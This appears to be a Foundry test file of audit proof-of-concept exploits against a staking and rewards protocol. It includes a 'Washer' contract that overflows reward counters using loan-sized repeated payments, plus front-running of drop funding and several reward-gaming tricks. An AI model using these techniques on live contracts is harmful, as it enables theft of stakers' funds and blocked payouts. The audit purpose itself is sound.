// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {console} from "forge-std/console.sol";

import {DropClaim, IMerkleDrops} from "palisade/interfaces/IMerkleDrops.sol";
import {Claim, IRewardsDistributor, Payment} from "palisade/interfaces/IRewardsDistributor.sol";
import {IStakeVault} from "palisade/interfaces/IStakeVault.sol";
import {Epoch} from "palisade/types/Epoch.sol";
import {PoolId} from "palisade/types/PoolId.sol";
import {Base, IMintable} from "../Base.t.sol";
import {Operator, Service, Staker} from "../journeys/Users.t.sol";
import {MintableToken} from "../mocks/OddTokens.sol";
import {DropsScene} from "../unit/MerkleDrops/DropsScene.sol";
import {Row, Tree} from "../unit/MerkleDrops/Tree.sol";
import {RewardScene} from "./Rewards.t.sol";

/// @notice Pays a pool of which it holds every share, and claims it back: at no cost but gas.
contract Washer {
    IStakeVault private immutable VAULT;
    IRewardsDistributor private immutable REWARDS;
    IMintable private immutable STAKE;
    IMintable private immutable REWARD;

    constructor(IStakeVault vault, IRewardsDistributor rewards, IMintable stake, IMintable reward) {
        (VAULT, REWARDS, STAKE, REWARD) = (vault, rewards, stake, reward);
        stake.approve(address(vault), type(uint256).max);
        reward.approve(address(rewards), type(uint256).max);
    }

    function enter(address operator, uint256 assets) external {
        VAULT.deposit(address(STAKE), operator, address(this), assets, 1);
    }

    function wash(address operator, uint256 amount, uint256 times) external {
        Payment[] memory payments = new Payment[](1);
        payments[0] = Payment(operator, address(STAKE), amount);
        Claim[] memory claims = new Claim[](1);
        claims[0] = Claim(VAULT.poolId(operator, address(STAKE)), address(REWARD));
        Epoch closed = Epoch.wrap(Epoch.unwrap(VAULT.currentEpoch()) - 1);
        for (uint256 i; i < times; ++i) {
            REWARDS.distribute(closed, address(REWARD), payments);
            REWARDS.claim(address(this), address(this), closed, claims);
        }
    }
}

contract Audit7 is RewardScene {
    /// @dev What a flash mint of DAI gives: 500 million.
    uint256 private constant LOAN = 5e26;

    /// @dev MEDIUM. Rewards of a share are 168 bits, and the sum of payments is not bounded by the supply: who holds every
    /// share of a pool that has one pays it, claims it back, and so on, with a loan. Then the pool can never be paid in
    /// that token again, and a stream in it that names its operator is released to nobody.
    /// PROMISE: "Nobody can keep it from being released to those who are named."
    function test_A2_washedPayments_stopAStream() public {
        Operator third = newOperatorOf(set, 0.5e18);
        Washer washer = new Washer(vault, rewards, token, reward);
        token.mint(address(washer), 2 ** 40);
        reward.mint(address(washer), LOAN);
        washer.enter(address(third), 1);
        skipEpochs(2);

        uint256 gas;
        uint256 most;
        uint256 calls;
        uint256 rest = 2 ** 104 - 1;
        while (rest >= LOAN) {
            uint256 times = rest / LOAN < 300 ? rest / LOAN : 300;
            washer.wash(address(third), LOAN, times);
            uint256 used = vm.lastCallGas().gasTotalUsed;
            (gas, most) = (gas + used, used > most ? used : most);
            ++calls;
            rest -= times * LOAN;
        }
        washer.wash(address(third), rest, 1);
        gas += vm.lastCallGas().gasTotalUsed;
        washer.enter(address(third), 2 ** 40 - 1);
        skipEpochs(2);
        washer.wash(address(third), 2 ** 40 - 1, 1);
        console.log("gas in all, of the dearest call", gas, most);
        console.log("the loan is repaid: missing units", LOAN - reward.balanceOf(address(washer)));
        assertLe(most, 2 ** 24, "a transaction");

        // Honest stake comes, a million; the service streams to three operators.
        Staker late = newStakerOf(third, 1e6 * unit);
        address[] memory operators = new address[](3);
        (operators[0], operators[1], operators[2]) = (address(first), address(second), address(third));
        for (uint256 i; i < 3; ++i) {
            for (uint256 j = i + 1; j < 3; ++j) {
                if (operators[j] < operators[i]) (operators[i], operators[j]) = (operators[j], operators[i]);
            }
        }
        uint256 id = createStream(service, set, 1000 * unit, 1, operators);
        skipEpochs(2);
        // Fails: RewardsOverflow.
        assertEq(streams.release(id, operators), 1000 * unit);
        assertGt(earned(late, third.pool()), 0);
    }

    /// @dev LOW. A payment of less than shares × 2^-64 units credits nobody: the only staker of the epoch gets none of it,
    /// and whoever stands in a later paid epoch gets it instead. At the deposit cap and at par that is 268 units of a token
    /// with six decimals each epoch; 2^12 times as much in a pool that was slashed.
    /// PROMISE: "What is paid for an epoch belongs to those who held shares of the pool at the first instant".
    function test_A3_carry_takesAWholePayment() public {
        IMintable usdc = newToken("USD", "USD", 6);
        Operator third = newOperatorOf(set, 0.5e18);
        Staker whale = newStakerOf(third, 4.9e27);
        PoolId at = third.pool();
        skipEpochs(2);
        pay(service, usdc, third, 260e6);
        Epoch ripe = whale.queue(third, 4.9e27);
        uint256 got = claim(whale, usdc, at);
        // Somebody else has the pool from now on.
        Staker next = newStakerOf(third, 100 * unit);
        skipEpochs(2);
        whale.complete(at, ripe);
        pay(service, usdc, third, 1);
        console.log("paid while the whale was alone, it got, the next one got", 260e6, got, claim(next, usdc, at));
        assertGe(got, 260e6 - 1, "its share, less a unit");
    }

    /// @dev LOW. The clock's last epoch never closes, but a stream may be made to last beyond it.
    /// PROMISE: "A stream pays exactly its sum for each of its epochs."
    function test_A5_streamBeyondTheClock_isStuck() public {
        vm.warp(startOf(Epoch.wrap(2 ** 24 - 1 - 12)));
        address[] memory operators = sorted(first, second);
        uint256 id = createStream(service, set, SUM, 10, operators);
        for (uint256 i; i < 20; ++i) {
            skip(EPOCH);
            if (streams.due(id) > 0) streams.release(id, operators);
        }
        assertEq(reward.balanceOf(address(streams)), 0, "stuck");
    }

    /// @dev LOW. The payer names an operator of its own, with a unit of its own stake, and has the whole stream back. The
    /// set stands all the time.
    /// PROMISE: "Nobody can ... take any of it back, unless the AVS has retired the set".
    function test_A6_payerTakesItBack_byNamingItself() public {
        uint256 id = createStream(service, set, SUM, 4, sorted(first, second));
        Operator own = newOperatorOf(set, 0.5e18);
        // Half of two units is a unit of guaranteed stake: it weighs.
        Staker puppet = newStakerOf(own, 2);
        skipEpochs(4);
        vm.prank(address(service));
        streams.setOperators(id, only(address(own)));
        streams.release(id, only(address(own)));
        assertEq(claim(puppet, own.pool()), 0, "the payer has it back");
    }

    /// @dev LOW. A claim in parts walks over every later change first: past some 7,000 changes not the smallest part fits a
    /// transaction (2^24 gas, EIP-7825), and others can make the changes, one each epoch. Weeks: 130 years. Hours: ten months.
    /// PROMISE: "long claims can be made in parts".
    function test_A7_longHistory_noPartFits() public {
        Staker giver = newStakerOf(first, 1e18);
        pay(service, first, SUM);
        for (uint256 i; i < 8000; ++i) {
            skipEpochs(1);
            giver.give(pool, 1, honest);
            if (i == 2000 || i == 4000 || i == 7999) {
                uint256 start = vm.snapshotState();
                vm.prank(address(honest));
                rewards.claim(address(honest), address(honest), Epoch.wrap(6), one(pool, reward));
                console.log("changes, gas of the smallest part", i + 1, vm.lastCallGas().gasTotalUsed);
                vm.revertToState(start);
            }
        }
        vm.prank(address(honest));
        rewards.claim(address(honest), address(honest), Epoch.wrap(6), one(pool, reward));
        assertLe(vm.lastCallGas().gasTotalUsed, 2 ** 24);
    }

    /// @dev LOW. The AVS ejects an operator as the epoch that it has served is to be paid. A guarantee counts a pending
    /// lowering at once, so its weight is zero, for the closed epoch too, and all goes to the others; its stake is slashed for
    /// two epochs more. The payer (here not the AVS) named both, and still does.
    /// PROMISE: "Nobody can keep it from being released to those who are named."
    function test_A9_ejected_isNotPaidForTheEpochServed() public {
        address[] memory operators = sorted(first, second);
        Service payer = newService();
        uint256 id = createStream(payer, set, SUM, 4, operators);
        skipEpochs(1);
        service.eject(set, first);
        streams.release(id, operators);
        skipToEnd(1);
        assertGt(service.canSlash(set, first), 0, "still slashable at the end of the next epoch");
        console.log("first earned, second earned", earned(honest, pool), earned(other, secondPool));
        assertApproxEqAbs(earned(honest, pool), SUM / 2, slack(), "the half of the epoch that it guaranteed");
    }

    /// @dev MEDIUM. Weight goes by what stays, and the sum by what stood: who queues after the epoch closed and before the
    /// release (in the same block) takes the pay of those who stay, who stood just as long. It gains by it where it stands
    /// with another operator of the set, too; and by queueing in the running epoch it loses no epoch's pay but later ones.
    /// PROMISE: "so it goes by the same stake that then earns".
    function test_A10_whoLeavesTakesThePayOfWhoStays() public {
        address[] memory operators = sorted(first, second);
        Staker big = newStakerOf(first, 64 * 63 * unit);
        big.deposit(second, 64 * 63 * unit);
        // So it has less of the first pool than of the second.
        newStakerOf(first, 64 * 36 * unit);
        skipEpochs(2);
        uint256 start = vm.snapshotState();
        payByStake(service, set, SUM, operators);
        uint256 stays = earned(honest, pool);
        uint256 leaves = earned(big, pool) + earned(big, secondPool);
        vm.revertToState(start);
        big.queue(first, 64 * 63 * unit);
        payByStake(service, set, SUM, operators);
        console.log("who stays earns, where nobody queues and where somebody does", stays, earned(honest, pool));
        console.log("who queues earns", leaves, earned(big, pool) + earned(big, secondPool));
        assertLe(earned(big, pool) + earned(big, secondPool), leaves, "it gains by queueing");
        assertApproxEqAbs(earned(honest, pool), stays, slack());
    }
}

/// @notice Looks at a drop as its tokens come in.
contract LookingToken is MintableToken {
    IMerkleDrops public drops;
    uint256 public drop;
    uint256 public funded;
    uint256 public held;

    function look(IMerkleDrops drops_, uint256 drop_) external {
        (drops, drop) = (drops_, drop_);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (address(drops) != address(0)) (funded, held) = (drops.dropOf(drop).funded, balanceOf(address(drops)));
        return super.transferFrom(from, to, amount);
    }
}

contract Audit7Drops is DropsScene {
    /// @dev MEDIUM. Numbers are handed out in order, and `fund` takes any: who makes a drop of the same token just before
    /// (or is put there by a reorganisation) has the number that the payer's next call names. D36.
    function test_A1_fundByNumber_isFrontRun() public {
        // What the payer's script computed and signed, as forge script does: create, and fund what create will return.
        uint256 expected = drops.dropCount() + 1;
        // The thief's comes first.
        vm.startPrank(stranger);
        uint256 theirs = drops.create(address(token), 1, vm.getBlockTimestamp() + 1 hours);
        vm.stopPrank();
        create(token);
        fund(expected, 500 * unit);
        assertEq(theirs, expected);

        bytes32 leaf = Tree.leaf(stranger, 500 * unit);
        vm.prank(stranger);
        drops.post(theirs, leaf, 500 * unit);
        skip(1);
        claim(DropClaim(theirs, stranger, 500 * unit, new bytes32[](0)));
        assertEq(token.balanceOf(stranger), 0, "the payer's money");
    }

    /// @dev INFO. Views of drops answer inside the call that changes them: `funded` before the tokens are there.
    function test_A8_viewsDuringAFunding() public {
        LookingToken looking = new LookingToken();
        uint256 other = create(IMintable(address(looking)));
        give(IMintable(address(looking)), payer, 100);
        looking.look(drops, other);
        fund(other, 100);
        assertLe(looking.funded(), looking.held(), "funded beyond what is here");
    }
}

/// @notice The claim of test/gas, of a staker whose balance did not change, where the weather is not as fair.
contract Audit7Gas is Base {
    IMintable internal reward;
    PoolId internal pool;

    function setUp() public override {
        super.setUp();
        reward = newToken("Reward", "RWD", 18);
        registerOperator(operator);
        vm.prank(operator);
        vault.open();
        skipEpochs(1);
        deposit(bob, operator, 1000 * unit);
        pool = vault.poolId(operator, address(token));
        skipEpochs(1);
        reward.mint(avs, 1e30);
        reward.mint(alice, 1);
        vm.prank(avs);
        reward.approve(address(rewards), type(uint256).max);
    }

    /// @dev The one that is measured now.
    function test_A4_asMeasured() public {
        deposit(alice, operator, 10 * unit);
        skipEpochs(1);
        payEpochs(10);
        assertLe(claim(), 80_000);
    }

    /// @dev The pool was paid before the staker came.
    function test_A4_cameAfterAPayment() public {
        payEpochs(1);
        deposit(alice, operator, 10 * unit);
        skipEpochs(1);
        payEpochs(10);
        assertLe(claim(), 80_000);
    }

    /// @dev The closed epoch has not been paid for yet.
    function test_A4_closedEpochUnpaid() public {
        deposit(alice, operator, 10 * unit);
        skipEpochs(1);
        payEpochs(10);
        skipEpochs(1);
        assertLe(claim(), 80_000);
    }

    /// @dev Both, with the last payment and the coming in windows without payments.
    function test_A4_afterSilence() public {
        payEpochs(1);
        skipEpochs(200);
        deposit(alice, operator, 10 * unit);
        skipEpochs(200);
        payEpochs(10);
        skipEpochs(200);
        assertLe(claim(), 80_000);
    }

    function claim() internal returns (uint256 gas) {
        Claim[] memory claims = new Claim[](1);
        claims[0] = Claim(pool, address(reward));
        vm.prank(alice);
        rewards.claim(alice, alice, Epoch.wrap(type(uint24).max), claims);
        gas = vm.lastCallGas().gasTotalUsed;
        console.log("gas", gas);
    }

    function payEpochs(uint256 n) internal {
        Payment[] memory payments = new Payment[](1);
        payments[0] = Payment(operator, address(token), 1e18);
        for (uint256 i; i < n; ++i) {
            skipEpochs(1);
            Epoch closed = Epoch.wrap(Epoch.unwrap(vault.currentEpoch()) - 1);
            vm.prank(avs);
            rewards.distribute(closed, address(reward), payments);
        }
    }
}
